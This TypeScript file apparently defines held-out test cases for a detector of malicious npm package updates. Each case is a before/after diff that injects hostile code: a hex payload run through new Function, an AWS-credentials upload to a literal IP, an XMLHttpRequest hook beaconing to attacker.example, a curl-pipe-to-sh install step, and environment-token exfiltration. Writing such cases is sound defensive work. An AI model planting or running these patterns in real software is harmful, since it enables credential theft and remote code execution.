/**
 * Attack cases written after the detector rules of the evaluation were settled, and never tuned for:
 * how the rules do on shapes they were not built from. Same rules as attack-cases.ts: defanged,
 * metadata-clean, only code changed.
 */
import type { EvalCase } from './case.js';
import { libraryModule, minified } from './code.js';

function hexFunction(): EvalCase {
  const util = libraryModule('parse', 14);
  const hex = Buffer.from("console.log('defanged');".repeat(20)).toString('hex');
  return {
    id: 'held-out:hex-function',
    incident: 'a hex-encoded payload run with new Function in a helper module',
    name: 'qs-parse-lite',
    from: '6.11.0',
    to: '6.11.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/util.js');\n", 'lib/util.js': util },
    after: { 'index.js': "module.exports = require('./lib/util.js');\n", 'lib/util.js': `${util}new Function(Buffer.from('${hex}', 'hex').toString())();\n` },
    file: 'lib/util.js',
  };
}

function awsToIp(): EvalCase {
  const creds = libraryModule('cred', 10, ['fs', 'os']);
  const evil = `${creds}try { const c = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); require('https').request({ host: '198.51.100.77', path: '/u', method: 'POST' }).end(c); } catch (e) {}\n`;
  return {
    id: 'held-out:aws-to-ip',
    incident: 'AWS credentials file sent to a literal address from a credentials helper',
    name: 'cloud-creds-helper',
    from: '3.2.4',
    to: '3.2.5',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/creds.js');\n", 'lib/creds.js': creds },
    after: { 'index.js': "module.exports = require('./lib/creds.js');\n", 'lib/creds.js': evil },
    file: 'lib/creds.js',
  };
}

function xhrSendHook(): EvalCase {
  const bundle = minified(5, 300);
  const hook =
    'var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){try{navigator.sendBeacon("https://t.attacker.example/x",b)}catch(e){}return s.apply(this,arguments)};';
  return {
    id: 'held-out:xhr-send-hook',
    incident: 'an XMLHttpRequest.send hook copying request bodies, in a UMD bundle only the CDN serves',
    name: 'lite-grid',
    from: '2.8.0',
    to: '2.8.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': libraryModule('grid', 6), 'dist/lite-grid.umd.js': bundle },
    after: { 'index.js': libraryModule('grid', 6), 'dist/lite-grid.umd.js': bundle.replace('}(this);', `;${hook}}(this);`) },
    file: 'dist/lite-grid.umd.js',
  };
}

function installCurlSh(): EvalCase {
  const install = ["'use strict';", "const { execSync } = require('child_process');", "execSync('node-gyp rebuild', { stdio: 'inherit' });", ''].join('\n');
  const evil = install.replace(
    "execSync('node-gyp rebuild', { stdio: 'inherit' });",
    "execSync('node-gyp rebuild', { stdio: 'inherit' });\ntry { execSync('curl -s https://get.attacker.example/i.sh | sh', { stdio: 'ignore' }); } catch (e) {}",
  );
  return {
    id: 'held-out:install-curl-sh',
    incident: 'an install script that always ran node-gyp now also pipes a download into sh',
    name: 'native-hash',
    from: '1.4.0',
    to: '1.4.1',
    manifest: { main: 'index.js', scripts: { install: 'node scripts/install.js' } },
    before: { 'index.js': libraryModule('hash', 6), 'scripts/install.js': install },
    after: { 'index.js': libraryModule('hash', 6), 'scripts/install.js': evil },
    file: 'scripts/install.js',
  };
}

function newTelemetryFile(): EvalCase {
  const telemetry = [
    "'use strict';",
    "const https = require('https');",
    'const payload = JSON.stringify({ k: process.env.AWS_SECRET_ACCESS_KEY, t: process.env.NPM_TOKEN });',
    "https.request({ host: 'usage.attacker.example', method: 'POST' }).on('error', () => {}).end(payload);",
    '',
  ].join('\n');
  return {
    id: 'held-out:new-telemetry-file',
    incident: 'a new module, required from the entry point, sending tokens from the environment',
    name: 'fast-logger-x',
    from: '5.0.2',
    to: '5.0.3',
    manifest: { main: 'index.js' },
    before: { 'index.js': libraryModule('log', 8) },
    after: { 'index.js': `require('./lib/telemetry.js');\n${libraryModule('log', 8)}`, 'lib/telemetry.js': telemetry },
    file: 'lib/telemetry.js',
  };
}

export function heldOutCases(): EvalCase[] {
  return [hexFunction(), awsToIp(), xhrSendHook(), installCurlSh(), newTelemetryFile()];
}
